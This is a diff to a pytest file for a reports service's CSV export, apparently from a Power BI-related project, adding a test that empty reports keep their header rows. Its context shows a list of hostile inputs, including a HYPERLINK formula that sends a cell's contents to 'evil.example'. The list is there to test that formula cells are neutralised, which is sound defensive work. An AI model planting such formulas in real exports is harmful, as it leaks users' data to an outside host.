@@ -8,7 +8,7 @@ import io
 import pytest
 
 from shared.reports.definitions import report_csv
-from shared.reports.service import to_csv
+from shared.reports.service import MISSING_SUBNET_COLUMNS, POOR_USER_COLUMNS, to_csv
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -34,3 +34,12 @@ def test_formula_cells_are_neutralised_in_every_csv(name):
 def test_plain_names_are_unchanged():
     text = to_csv({"groupBy": ["building"], "rows": [{"building": "Building 7"}]})
     assert "\r\nBuilding 7," in text and "'" not in text
+
+
+def test_an_empty_report_still_has_its_header_row():
+    # a Power BI query over a period with no rows must keep its columns
+    for columns in (MISSING_SUBNET_COLUMNS, POOR_USER_COLUMNS):
+        text = to_csv({"rows": []}, columns)
+        assert next(csv.reader(io.StringIO(text))) == list(columns)
+    rows = [{"subnet": "10.0.0.0", "audioStreams": 12}]
+    assert next(csv.reader(io.StringIO(to_csv({"rows": rows}, ("x",))))) == list(rows[0])
